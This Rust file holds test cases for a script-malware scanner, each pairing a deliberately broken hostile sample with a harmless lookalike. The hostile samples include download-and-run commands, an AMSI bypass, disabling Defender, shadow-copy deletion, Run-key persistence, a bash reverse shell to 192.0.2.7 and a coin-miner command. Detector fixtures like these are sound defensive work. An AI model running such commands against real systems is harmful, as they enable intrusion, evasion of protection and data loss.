//! Cases for scripts.

use khien_inspect::FileType::{
    AutoIt, Batch, EncodedScript, Hta, JavaScript, PowerShell, Python, Reg, Shell, Text, VbScript, Wsf, Xsl,
};

use crate::{Case, case};

pub(crate) fn cases() -> Vec<Case> {
    [powershell(), windows(), others()].into_iter().flatten().collect()
}

fn powershell() -> Vec<Case> {
    let letters = |count: usize| (0..count).map(|number| format!("[ch¦ar]{} + ", 65 + number % 26)).collect::<String>();
    vec![
        case(
            "powershell_encoded_command",
            Batch,
            format!("power¦shell -nop -en¦c {}", "QUFB".repeat(20)),
            "powershell -EncodedCommand <chuoi>",
        ),
        case(
            "powershell_downloads_and_runs",
            PowerShell,
            "i¦ex (New-Object Net.WebClient).Download¦String('http://192.0.2.7/a') -w¦indowstyle hidden",
            "Invoke-WebRequest https://vidu.vn/a.zip -OutFile a.zip; Start-Process explorer",
        ),
        case(
            "powershell_loads_program_from_memory",
            PowerShell,
            "[Reflection.Assem¦bly]::Lo¦ad([Convert]::FromBase64¦String($a))",
            "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')",
        ),
        case(
            "powershell_blinds_antivirus",
            PowerShell,
            "[Ref].Assembly.GetType('System.Management.Automation.Amsi¦Utils').GetField('amsiInit¦Failed')",
            "# AMSI is the scan interface of Windows",
        ),
        case(
            "powershell_runs_machine_code",
            PowerShell,
            "[By¦te[]] $b = 0; Virtual¦Alloc; GetDelegateForFunction¦Pointer",
            "[Byte[]] $b = Get-Content a -Encoding Byte",
        ),
        case(
            "script_switches_off_defender",
            PowerShell,
            "Set-Mp¦Preference -DisableRealtime¦Monitoring $true",
            "Set-MpPreference -ScanScheduleDay 1",
        ),
        case("powershell_hides_its_texts", PowerShell, letters(31), letters(30)),
    ]
}

fn windows() -> Vec<Case> {
    vec![
        case(
            "vbscript_downloads_and_runs",
            VbScript,
            "Set x = Create¦Object(\"Microsoft.XML¦HTTP\")\nSet s = CreateObject(\"ADODB.Str¦eam\")\nw.Ru¦n \"a\"",
            "Set x = CreateObject(\"Scripting.FileSystemObject\")\nx.CopyFile \"a\", \"b\"",
        ),
        case(
            "vbscript_runs_hidden_text",
            VbScript,
            "Exec¦ute(Str¦Reverse(\"gnohk\"))",
            "Execute \"x = 1\"\nMsgBox StrReverse(\"a\")",
        ),
        case(
            "encoded_script_of_windows",
            EncodedScript,
            "#@~¦^AAAAAA==khong¦-chay-duoc==^#~¦@",
            "The mark #@~^ begins an encoded script",
        ),
        case(
            "javascript_of_windows_downloads_and_runs",
            JavaScript,
            "var a = new Active¦XObject(\"MSXML2.XML¦HTTP\"); s.SaveTo¦File(\"a\"); w.Ru¦n(\"a\")",
            "var request = window.ActiveXObject ? new ActiveXObject(\"Microsoft.XMLHTTP\") : new XMLHttpRequest();",
        ),
        case(
            "javascript_of_windows_starts_shell",
            JavaScript,
            "new Active¦XObject(\"WScript.Sh¦ell\").Exec(\"cm¦d /c khong\")",
            "new ActiveXObject(\"Scripting.Dictionary\") // cmd /c",
        ),
        case(
            "certutil_fetches_or_decodes",
            Batch,
            "cert¦util -url¦cache -f http://192.0.2.7/a a.ex¦e",
            "certutil -hashfile a.exe SHA256",
        ),
        case(
            "bitsadmin_fetches",
            Batch,
            "bits¦admin /trans¦fer viec http://192.0.2.7/a c:\\a",
            "bitsadmin /list /allusers",
        ),
        case("windows_tool_runs_remote_code", Batch, "msh¦ta http://192.0.2.7/a", "regsvr32 /s C:\\Windows\\a.dll"),
        case("script_deletes_shadow_copies", Batch, "vss¦admin del¦ete sha¦dows /all", "vssadmin list shadows"),
        case(
            "application_of_html_starts_program",
            Hta,
            "<script>new ActiveXObject('WScript.Sh¦ell').Ru¦n('khong')</script>",
            "<script>document.title = 'Biểu mẫu'</script>",
        ),
        case(
            "scriptlet_starts_program",
            Wsf,
            "<script¦let><registr¦ation/><script>new Active¦XObject('a')</script></scriptlet>",
            "<package><job><script>x = 1</script></job></package>",
        ),
        case(
            "stylesheet_starts_program",
            Xsl,
            "<xsl:style¦sheet><ms:scr¦ipt>new Active¦XObject('a')</ms:script></xsl:stylesheet>",
            "<xsl:stylesheet><xsl:template match=\"/\"/></xsl:stylesheet>",
        ),
        case(
            "autoit_drops_and_runs",
            AutoIt,
            "File¦Install(\"a\", @Temp¦Dir & \"\\a\")\nRu¦n(@TempDir & \"\\a\")",
            "FileInstall(\"a\", @ScriptDir & \"\\a\")\nRun(\"notepad\")",
        ),
        case(
            "registry_file_starts_program_at_login",
            Reg,
            "REGE¦DIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Ru¦n]\r\n\"a\"=\"msh¦ta khong\"",
            "REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Unikey]\r\n\"a\"=\"1\"",
        ),
    ]
}

fn others() -> Vec<Case> {
    vec![
        case("reverse_shell", Shell, "bash -¦i >& /dev/tc¦p/192.0.2.7/1 0>&1", "exec 3</dev/null; nc -l 80"),
        case(
            "script_mines_coins",
            Text,
            "./xm¦rig -o strat¦um+tcp://vidu.invalid:3333",
            "stratum+tcp://vidu.invalid:3333 is how miners speak to pools",
        ),
        case(
            "python_runs_hidden_code",
            Python,
            format!("ex¦ec(base64.b64¦decode('{}'))", "QUFB".repeat(30)),
            "data = base64.b64decode('QUFB')",
        ),
    ]
}
